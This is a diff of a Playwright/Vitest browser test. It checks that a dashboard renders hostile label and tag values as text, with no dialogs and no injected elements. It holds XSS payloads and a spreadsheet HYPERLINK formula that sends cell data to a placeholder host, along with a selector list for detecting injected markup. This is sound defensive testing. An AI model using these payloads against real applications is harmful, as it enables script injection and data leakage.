@@ -1,8 +1,8 @@
 import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ROOT, serveDashboard, type ServedDashboard } from '../browser/harness';
-import { HOSTILE_TAG_VALUES, hostileTeams, seedHostileDb, type HostileDb } from './fixtures/hostile-db';
+import { ROOT, serveDashboard, type ServedDashboard } from '../browser/harness.js';
+import { HOSTILE_TAG_VALUES, hostileTeams, seedHostileDb, type HostileDb } from './fixtures/hostile-db.js';
 
 /*
  * Hostile label and tag values render as text. The dashboard is served over a database seeded from the `hostile`
@@ -32,7 +32,10 @@ afterAll(async () => {
 const INJECTED = 'img[src="x"], iframe, svg[onload], details[ontoggle], script:not([src]), [onerror], [onload], [ontoggle], [onclick]';
 
 /** Opens `path`, waits for its reads (and for `shows` to appear, when given), and reports what happened. */
-async function visit(path: string, shows: readonly string[] = []): Promise<{ page: Page; dialogs: string[]; text: string; injected: number }> {
+async function visit(
+  path: string,
+  shows: readonly string[] = [],
+): Promise<{ page: Page; dialogs: string[]; text: string; injected: number }> {
   const context = await browser.newContext({ bypassCSP: true, viewport: { width: 1280, height: 900 } });
   const page = await context.newPage();
   const dialogs: string[] = [];
@@ -42,7 +45,8 @@ async function visit(path: string, shows: readonly string[] = []): Promise<{ pag
   });
   await page.goto(`${baseUrl}${path}`);
   await page.waitForLoadState('networkidle'); // the page's lazy chunk and its API reads are in
-  if (shows.length > 0) await page.waitForFunction((all) => all.every((t) => document.body.innerText.includes(t)), shows, { timeout: 20_000 });
+  if (shows.length > 0)
+    await page.waitForFunction((all) => all.every((t) => document.body.innerText.includes(t)), shows, { timeout: 20_000 });
   else await page.waitForTimeout(500); // charts and tables render from what arrived
   const text = await page.locator('body').innerText();
   const injected = await page.locator(INJECTED).count();
@@ -64,7 +68,13 @@ describe('the dashboard over hostile label and tag values', () => {
     expect(dialogs).toEqual([]);
     expect(injected).toBe(0);
     expect(present.filter((t) => !text.includes(t))).toEqual([]);
-    expect(present).toEqual(expect.arrayContaining(['<img src=x onerror=alert(1)>', '"><script>alert(document.domain)</script>', '=HYPERLINK("https://example.invalid/?q="&A1,"open")']));
+    expect(present).toEqual(
+      expect.arrayContaining([
+        '<img src=x onerror=alert(1)>',
+        '"><script>alert(document.domain)</script>',
+        '=HYPERLINK("https://example.invalid/?q="&A1,"open")',
+      ]),
+    );
     await page.screenshot({ path: join(ROOT, 'test', 'screenshots', 'hostile-teams.png'), fullPage: true });
     await page.context().close();
   });
